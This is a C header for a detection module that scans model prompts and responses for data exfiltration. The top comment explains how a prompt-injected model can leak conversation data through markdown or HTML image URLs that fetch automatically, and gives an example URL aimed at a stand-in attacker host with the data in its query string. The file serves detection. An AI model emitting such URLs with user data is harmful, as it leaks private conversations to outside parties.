/* SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause) */
/*
 * EXFILTRATION: data leaving through the model.
 *
 * In RESPONSES, a model that was injected can smuggle conversation data out
 * in a URL the client fetches by itself: a markdown image
 * `![x](https://evil.example/p.png?q=<data>)` or an HTML `<img src=...>`
 * renders without a click.  Links `[t](url)` need a click and count only
 * when they carry data.  Hosts in the tenant's allowlist (suffixes:
 * "example.com" allows "cdn.example.com") are never reported.
 *
 *   detail          when                                           confidence
 *   markdown-image  ![..](http(s)://host...) not allowlisted       MEDIUM, HIGH with data
 *   html-image      <img src="http(s)://host..."> not allowlisted  MEDIUM, HIGH with data
 *   link            [..](url) not allowlisted, carrying data        MEDIUM
 *
 * "Carrying data": a query value or path segment of at least 16 bytes
 * that is encoded (base64/hex/percent) or has entropy above 3.5 bits/byte,
 * or a query string of at least 64 bytes.
 *
 * In REQUESTS, a large high-entropy blob (a run of base64 or hex of at
 * least blob_min_bytes whose entropy is above the encoding's threshold) is
 * reported as "high-entropy-blob": data being shipped out inside a prompt.
 * Attachments the API defines (data: URIs, "base64," payloads of images)
 * are skipped unless flag_data_uris is set.
 */
#ifndef AIRLOCK_SCAN_EXFIL_H
#define AIRLOCK_SCAN_EXFIL_H

#include <stddef.h>

#include "scan.h"

#define EXFIL_TYPE               "EXFILTRATION"
#define EXFIL_BLOB_MIN_DEFAULT   256     /* bytes */
#define EXFIL_B64_ENTROPY        4.5     /* bits/byte: random base64 is ~5.9 */
#define EXFIL_HEX_ENTROPY        3.0     /* bits/byte: random hex is ~4.0 */
#define EXFIL_URLS_MAX           256     /* URLs examined per text */

enum exfil_direction {
	EXFIL_REQUEST = 0,               /* prompt going to the model */
	EXFIL_RESPONSE,                  /* completion coming back */
};

struct exfil_opts {
	const char *const *allow_hosts;  /* NULL-terminated host suffixes; NULL: none allowed */
	size_t blob_min_bytes;           /* 0: EXFIL_BLOB_MIN_DEFAULT */
	double blob_min_entropy;         /* 0: per encoding (EXFIL_B64_ENTROPY, EXFIL_HEX_ENTROPY) */
	int flag_data_uris;              /* also report data:...;base64, payloads */
};

/*
 * Analyse text[0..len) (the normalised view) and append EXFILTRATION
 * findings with offsets into text.  `o` may be NULL (defaults, empty
 * allowlist).  Returns the number appended or a negative errno.
 */
int exfil_scan(const char *text, size_t len, enum exfil_direction dir,
	       const struct exfil_opts *o, struct scan_result *out);

/* Is host[0..len) equal to, or a subdomain of, one of the suffixes? */
int exfil_host_allowed(const char *host, size_t len, const char *const *allow_hosts);

#endif /* AIRLOCK_SCAN_EXFIL_H */
